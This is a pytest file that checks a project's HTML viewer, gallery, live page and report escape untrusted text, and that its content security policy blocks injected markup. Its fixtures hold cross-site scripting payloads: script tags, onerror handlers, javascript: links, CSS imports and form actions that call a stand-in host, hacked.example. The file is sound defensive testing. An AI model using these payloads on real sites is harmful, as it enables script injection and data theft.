"""Pages made of what a stranger wrote: all of it is shown, none of it runs.

A run's folder is changed by hand after it was written, as somebody may who sends one. Whatever
a browser were to run of it leaves a mark, opens a dialog, asks another server or breaks the page's
content security policy; the first is asked for, the others fail the test that opened the page.
"""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from kinolab.cli import run
from kinolab.runs import write_run
from kinolab.show.view.live_page import LivePage
from tests.conftest import Solved
from tests.show.view.browsing import WIDE, Opener, inner_frames, needs_chromium, until
from tests.studies.test_report_page import report
from tests.studies.tiny_study import several
from tests.support import OPEN, WALL, problem_of

pytestmark = needs_chromium

MARK = "window.hacked = 1; fetch('https://hacked.example/'); alert(1)"
HOSTILE = (
    f'"><img src=x onerror="{MARK}"></title></style></textarea><svg onload="{MARK}">'
    f'</script></SCRIPT ><script>{MARK}</script>]]><a href="javascript:{MARK}">${{alert(1)}}</a>'
    "<style>@import 'https://hacked.example/'; * { background: url(https://hacked.example/b) }"
    "</style>{{library}}<library>{{pack}}<!--<script>"
)
NAME = "<img src=x onerror=alert(1)></script><script>alert(1)</script><!--<script>"
REST = "\0\x1b]0;hacked\a\x9b31m\u202e\u2028\u2029\r\n\ud800__proto__"  # where a text may have it
IDENTIFIERS = {"format", "is", "expression", "kind", "shape", "axis", "name"}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run whose every free text is a stranger's, of a million characters the message."""
    folder = tmp_path_factory.mktemp("hostile")
    problem = problem_of(folder, OPEN + WALL)
    made = folder / "run"
    write_run(made, problem, problem.solve(seed=1, max_iterations=20_000))
    told = json.loads((made / "report.json").read_text())
    told = {key: value for key, value in _replaced(told).items() if key != "assets"}
    told["message"] = 40_000 * "<b>hacked</b>" + HOSTILE
    told["margin"] = {"clearance": HOSTILE, "time": [HOSTILE], "beside": {HOSTILE: 1}}
    told |= {"duration": HOSTILE, "goal_distance_by_unit": {HOSTILE: HOSTILE}, HOSTILE: HOSTILE}
    (made / "report.json").write_text(json.dumps(told))
    scenario = (made / "scenario.toml").read_text()
    for old, new in (("A coin on a table", HOSTILE), ("wall", NAME), ("rrt", HOSTILE)):
        scenario = scenario.replace(f'"{old}"', json.dumps(new))
    (made / "scenario.toml").write_text(scenario)
    machine = (made / "assets/machine.json").read_text()
    for old in ("rolling_disk", "coin", "no sideslip", "rolling", "the rim grips"):
        machine = machine.replace(f'"{old}"', json.dumps(f"{old} {NAME}"))
    (made / "assets/machine.json").write_text(machine)
    (made / "scene.html").write_text(f"<!doctype html><script>{MARK}</script>")
    (made / "animation.gif").write_text(f"GIF89a<script>{MARK}</script>")
    return made


def _replaced(value: Any) -> Any:
    if isinstance(value, dict):
        return {key: _replaced(entry) for key, entry in value.items()}
    if isinstance(value, list):
        return [_replaced(entry) for entry in value]
    return HOSTILE + REST if isinstance(value, str) else value


@pytest.fixture
def opened(browse: Opener) -> Iterator[Opener]:
    """Open a page; in the end nothing of a stranger's has run in any of its frames."""
    pages, dialogs = list[Any](), list[str]()

    def open_(place: Path | str, **options: Any) -> Any:
        pages.append(browse(place, **options))
        pages[-1].on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        return pages[-1]

    yield open_
    for page in pages:
        page.wait_for_timeout(100)  # for what runs late
        assert [frame.evaluate("'hacked' in window") for frame in page.frames].count(True) == 0
        page.context.close()
    assert dialogs == []


def test_the_page_of_a_stranger_s_run_is_drawn_anew_and_shows_their_words(
    hostile: Path, opened: Opener, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run(["view", str(hostile), "--no-browser", "--quiet"]) == 0
    told = capsys.readouterr()
    page = opened(Path(told.out.strip()))
    assert page.inner_text("#title") == HOSTILE
    assert page.title() == HOSTILE
    assert page.inner_text("#badge") == "Not planned yet"  # their status is none
    assert NAME in page.locator(".list").first.text_content()
    assert page.evaluate("kinolab.bodies") == [f"coin {NAME}"]
    assert page.locator(".message").text_content().endswith(HOSTILE)
    page.evaluate("() => { kinolab.drive.start(); kinolab.seek(0.5); }")
    assert page.locator("img, a, script:not(body > script), style:not(head > style)").count() == 0


def test_a_gallery_of_strangers_shows_their_words_and_runs_none(
    hostile: Path, opened: Opener, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "<img src=x onerror=alert(1)>\x1b[31m"
    shutil.copytree(hostile, folder)
    (tmp_path / "none\n0 of 0").mkdir()
    out = tmp_path / "gallery.html"
    given = (str(folder), str(tmp_path / "none\n0 of 0"), "--out", str(out), "--title", HOSTILE)
    assert run(["gallery", *given, "--quiet"]) == 7
    assert not set("\x1b\a\x9b\u202e") & set("".join(capsys.readouterr()))
    page = opened(out)
    assert page.inner_text("h1") == HOSTILE
    assert page.locator(".card h2").first.text_content() == HOSTILE
    page.locator("button.card").click()
    (inside,) = inner_frames(page)
    assert inside.evaluate("async () => (await kinolab.ready).last > 0")
    assert inside.evaluate("() => document.getElementById('title').textContent") == HOSTILE


def test_a_live_page_shows_words_only(opened: Opener, tmp_path: Path) -> None:
    title = "title = " + json.dumps(HOSTILE)
    text = OPEN.replace('title = "A coin on a table"', title)
    live = LivePage(problem_of(tmp_path, text), HOSTILE)
    with live.served():
        page = opened(live.address)
        live.say(HOSTILE + REST + "\n\nevent: end\ndata: javascript:alert(1)\n\n")
        live.verdict("constructor", HOSTILE + REST)
        until(page, "document.getElementById('subtitle').innerText.includes('hacked.example')")
        assert page.inner_text("#title") == HOSTILE
        assert page.url == live.address


def test_the_report_of_a_study_of_strangers_runs_nothing(opened: Opener, tmp_path: Path) -> None:
    rows = [
        row
        | {"planner": HOSTILE, "scenario": HOSTILE, "processor": HOSTILE, "message": HOSTILE}
        | ({} if row["solved"] else {"status": "error"})
        for row in [*several("rrt", [0.1, 0.2]), *several("sst", [float("nan")] * 2, first=2)]
    ]
    text, markdown = report(tmp_path, rows, title="<script>alert(1)</script>[a](javascript:b)")
    assert "<" not in markdown
    assert not re.search(r"\][(:[]", markdown)
    (tmp_path / "report.html").write_text(text, encoding="utf-8")
    page = opened(tmp_path / "report.html")
    assert page.inner_text("h1") == "<script>alert(1)</script>[a](javascript:b)"
    assert HOSTILE in page.locator("td").first.text_content()


ADDED = (
    f"<script>{MARK}</script>",
    f'<img src="data:," onerror="{MARK}">',
    f'<a id="link" href="javascript:{MARK}">',
    '<base href="https://hacked.example/"><script src="a.js"></script>',
    '<form id="form" action="https://hacked.example/"></form>',
    f'<iframe srcdoc="<script>parent.{MARK}</script>"></iframe>',
    "<style>body { background: url(https://hacked.example/) }</style>",
)


@pytest.mark.parametrize("kind", ["page", "gallery"])
def test_even_what_is_put_into_a_page_as_html_does_not_run(
    kind: str, browser: Any, tmp_path: Path, drawn: dict[str, str]
) -> None:
    """The policy names the page's own scripts; were a text ever read as HTML, it would hold."""
    path = tmp_path / "page.html"
    path.write_text(drawn[kind].replace("</body>", f"{''.join(ADDED)}</body>"), encoding="utf-8")
    context = browser.new_context(viewport=WIDE, reduced_motion="reduce")
    page, asked, said, dialogs = context.new_page(), list[str](), list[str](), list[str]()
    page.on("request", lambda request: asked.append(request.url))
    page.on("console", lambda message: said.append(message.text))
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.goto(path.as_uri())
    page.evaluate("document.getElementById('link').click()")
    page.evaluate("document.getElementById('form').submit()")
    page.wait_for_timeout(50)
    assert page.evaluate("window.hacked") is None
    assert dialogs == []
    assert [url for url in asked if "hacked" in url] == []
    refused = [text for text in said if "Content Security Policy" in text]
    assert len(refused) >= len(ADDED)
    assert page.evaluate("document.scripts.length") > 3
    context.close()


@pytest.fixture(scope="module")
def drawn(short: Solved, tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """A page and a gallery, as they are written."""
    folder = tmp_path_factory.mktemp("drawn")
    write_run(folder / "run", short.problem, short.plan)
    assert run(["view", str(folder / "run"), "--no-browser", "--quiet"]) == 0
    out = folder / "gallery.html"
    assert run(["gallery", str(folder / "run"), "--out", str(out), "--quiet"]) == 0
    return {
        "page": (folder / "run/scene.html").read_text(encoding="utf-8"),
        "gallery": out.read_text(encoding="utf-8"),
    }
